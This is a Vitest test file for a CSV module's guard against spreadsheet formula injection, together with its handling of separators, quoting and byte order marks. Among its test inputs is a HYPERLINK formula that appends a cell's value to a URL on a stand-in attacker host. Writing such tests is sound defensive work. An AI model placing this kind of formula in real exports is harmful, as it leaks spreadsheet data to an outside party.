import { expect, test } from 'vitest'
import { readCsv, writeCsv } from '../../src/commission/csv.ts'

test.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠a',
  "'=1",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
])('the cell %j is text to a spreadsheet, and is read as it was', (cell) => {
  const csv = writeCsv([['id', cell]])
  expect(csv).toMatch(/^id,"?'/)
  expect(readCsv(csv)).toEqual({ rows: [['id', cell]], fault: null })
})

test.each(['-1.50', '0', '12', 'a=1', 'é', ''])('the cell %j stays as it is', (cell) => {
  expect(writeCsv([['id', cell]])).toBe(`id,${cell}\r\n`)
})

test.each([
  ['EURUSD;=1+1', "EURUSD;'=1+1"],
  ['a\t@b', "a\t'@b"],
  ["a;'=1", "a;''=1"],
  ['a; b', 'a; b'],
])('%j holds no formula where cells are separated by semicolons or tabs', (value, written) => {
  expect(writeCsv([[value]])).toBe(`${written}\r\n`)
  const csv = `id,name\r\n1,${written}\r\n`
  expect(readCsv(csv)).toEqual({
    rows: [
      ['id', 'name'],
      ['1', value],
    ],
    fault: null,
  })
})

const ROWS = [
  ['affiliate_id', 'amount'],
  ['Müller, "A"', '5.50'],
]

test.each([
  ['a byte order mark', '\ufeffaffiliate_id,amount\r\n"Müller, ""A""",5.50\r\n'],
  ['semicolons', 'affiliate_id;amount\n"Müller, ""A""";5.50\n'],
  ['tabs', 'affiliate_id\tamount\n"Müller, ""A"""\t5.50\n'],
  ['a declared separator', '\ufeffsep=;\r\naffiliate_id;amount\r\n"Müller, ""A""";5.50'],
  ['rows of separators', 'affiliate_id,amount\n,\n"Müller, ""A""",5.50\n , \n\n'],
])('a file of a spreadsheet with %s is read', (_, text) => {
  expect(readCsv(text)).toEqual({ rows: ROWS, fault: null })
})

test('a cell that cannot be read is on its line of the file', () => {
  expect(readCsv('sep=;\nid;name\n1;"a"b\n')).toEqual({
    rows: null,
    fault: { line: 3, reason: 'a quote that is not closed or within a cell' },
  })
})
